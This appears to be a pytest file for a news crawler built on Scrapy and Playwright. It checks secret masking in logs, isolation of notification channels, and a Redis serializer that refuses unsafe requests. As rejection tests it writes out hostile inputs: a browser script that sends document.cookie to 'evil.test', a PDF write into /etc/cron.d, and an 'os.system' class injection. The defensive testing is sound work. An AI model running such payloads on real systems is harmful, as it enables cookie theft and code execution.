"""No secret reaches a log line, an error or a dead letter; one failing notification channel never
silences the other."""

from __future__ import annotations

import json
import logging
import socketserver
import threading

import pytest
from scrapy.utils.test import get_crawler

from newscrawler.notify import NotifyOperator, post_webhook
from newscrawler.urls import mask_uri, mask_url


@pytest.mark.parametrize("uri, secret", [
    ("mongodb://user:pa#ss@host/db", "pa#ss"),
    ("mongodb://user:pa/ss@host/db", "pa/ss"),
    ("mongodb://user:p@ss@h1:27017,h2:27018/db?replicaSet=rs", "p@ss"),
    ("mongodb+srv://user:p%40ss@cluster0.example.net/db", "p%40ss"),
    ("mongodb://host/db?tls=true&tlsCertificateKeyFilePassword=hunter2", "hunter2"),
    ("mongodb://u:s3cret@h/db?authMechanism=MONGODB-AWS&authMechanismProperties=AWS_SESSION_TOKEN:tok123", "tok123"),
])
def test_mongodb_uris_are_masked_as_pymongo_reads_them(uri, secret):
    masked = mask_uri(uri)
    assert secret not in masked and "****" in masked
    assert "host" in masked or "h1" in masked or "cluster0" in masked or "h/db" in masked


@pytest.mark.parametrize("uri", ["mongodb://user:pa#ss@host/db", "mongodb://user:p%40ss@host/db",
                                 "mongodb://host/db?tls=true&tlsCertificateKeyFilePassword=hunter2"])
def test_the_forms_above_are_ones_pymongo_takes(uri):
    from pymongo.uri_parser import parse_uri

    assert parse_uri(uri)["nodelist"] == [("host", 27017)]


def test_a_uri_without_secrets_is_shown_whole():
    assert mask_uri("mongodb://127.0.0.1:27017/news?replicaSet=rs0") == "mongodb://127.0.0.1:27017/news?replicaSet=rs0"


def test_a_webhook_is_shown_by_its_host_only():
    assert mask_url("https://hooks.example/services/T0/B0/token") == "https://hooks.example/****"
    assert "token" not in mask_url("hooks.example/services/token")


class NotHttp(socketserver.StreamRequestHandler):
    def handle(self):
        self.rfile.readline()
        self.wfile.write(b"garbage that is no status line\r\n\r\n")


def test_a_malformed_webhook_answer_fails_alone_and_loudly(caplog):
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), NotHttp)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    crawler = get_crawler()
    crawler.stats.open_spider()
    url = f"http://127.0.0.1:{server.server_address[1]}/hook/secret-token"
    tried = []
    try:
        with caplog.at_level(logging.WARNING):
            NotifyOperator.try_channel(crawler, "webhook", lambda: post_webhook(url, {"a": 1}), mask_url(url))
            NotifyOperator.try_channel(crawler, "e-mail", lambda: tried.append("e-mail"), None)
    finally:
        server.shutdown()
        server.server_close()
    assert tried == ["e-mail"]
    assert crawler.stats.get_value("news/notify/failed/webhook") == 1
    assert crawler.stats.get_value("news/notify/sent/e-mail") == 1
    assert "Could not notify the operator by webhook" in caplog.text and "secret-token" not in caplog.text


def test_a_failed_monitor_is_named_with_its_figure():
    from types import SimpleNamespace

    from newscrawler.monitors import figure_of

    failed = SimpleNamespace(reason="0 not greater than 0 : 0 articles seen, expected more than 0")
    assert figure_of(failed) == "0 articles seen, expected more than 0"
    raised = SimpleNamespace(reason=None, error="Traceback (most recent call last):\n  File x\nKeyError: 'news'")
    assert figure_of(raised) == "KeyError: 'news'"


def test_the_shared_frontier_holds_json_that_cannot_run_code():
    import pickle

    from scrapy import Request
    from scrapy.utils.request import request_from_dict
    from scrapy_playwright.page import PageMethod

    from newscrawler import redis_serializer
    from newscrawler.rendering import script
    from test_spider import spider_for

    spider = spider_for(start_url="http://site.test/")
    request = Request("http://site.test/article/1", method="POST", body=b"\x00\xffbody", callback=spider.parse_article,
                      headers={"Referer": "http://site.test/"},
                      meta={"playwright": True, "playwright_page_methods": [
                          PageMethod("evaluate", script("load_more"), {"a": (1, 2)})]})
    data = redis_serializer.dumps(request.to_dict(spider=spider))
    json.loads(data)                                           # plain JSON
    back = request_from_dict(redis_serializer.loads(data), spider=spider)
    assert (back.url, back.body, back.callback) == (request.url, request.body, spider.parse_article)
    assert back.headers["Referer"] == b"http://site.test/"
    [step] = back.meta["playwright_page_methods"]
    assert (step.method, step.args) == ("evaluate", (script("load_more"), {"a": [1, 2]}))
    with pytest.raises(ValueError):
        redis_serializer.loads(pickle.dumps({"url": "http://site.test/"}))
    with pytest.raises(ValueError, match="refused"):
        redis_serializer.loads(json.dumps({"url": "http://site.test/", "_class": "os.system"}))


@pytest.mark.parametrize("steps, meta, refused", [
    ([("screenshot", (), {"path": "/tmp/x.png"})], {}, "page method 'screenshot'"),
    ([("pdf", (), {"path": "/etc/cron.d/x"})], {}, "page method 'pdf'"),
    ([("evaluate", ("fetch('http://evil.test/' + document.cookie)", {}), {})], {}, "page method 'evaluate'"),
    ([("wait_for_selector", ("a",), {"state": "attached", "strict": True})], {}, "page method 'wait_for_selector'"),
    ([], {"playwright_context_kwargs": {"record_har_path": "/tmp/x.har"}}, "playwright_context_kwargs"),
    ([], {"playwright_page_methods": {"shot": "screenshot"}}, "playwright_page_methods"),
])
def test_the_shared_frontier_refuses_browser_steps_the_crawl_never_builds(steps, meta, refused):
    """A request read back from Redis may carry only the page methods the project builds."""
    from scrapy import Request
    from scrapy_playwright.page import PageMethod

    from newscrawler import redis_serializer

    request = Request("http://site.test/", meta={"playwright": True, "playwright_page_methods": [
        PageMethod(name, *args, **kwargs) for name, args, kwargs in steps], **meta})
    with pytest.raises(redis_serializer.RefusedRequest, match=refused):
        redis_serializer.loads(redis_serializer.dumps(request.to_dict()))


def test_the_page_methods_the_crawl_builds_pass_the_shared_frontier():
    from types import SimpleNamespace

    from newscrawler import redis_serializer
    from newscrawler.rendering.scripts import article_page_methods, listing_page_methods, related_block_method

    config = SimpleNamespace(related_timeout_ms=15000, settle_ms=200, navigation_timeout_ms=30000)
    selectors = SimpleNamespace(script_args=lambda: {"blockSelector": ".related"})
    steps = SimpleNamespace(ready_css=".cards", card_css=".card", more_css=".more", max_clicks=3,
                            known_paths=["/a"], since_ms=None)
    built = [related_block_method(config, selectors),
             *article_page_methods(config, SimpleNamespace(rendered_css="article", related=selectors)),
             *listing_page_methods(config, SimpleNamespace(load_more=lambda state: steps), {})]
    back = redis_serializer.loads(redis_serializer.dumps({"url": "http://site.test/", "meta": {
        "playwright": True, "playwright_page_methods": built}}))
    assert [(s.method, s.args[0], s.kwargs) for s in back["meta"]["playwright_page_methods"]] == \
        [(s.method, s.args[0], s.kwargs) for s in built]
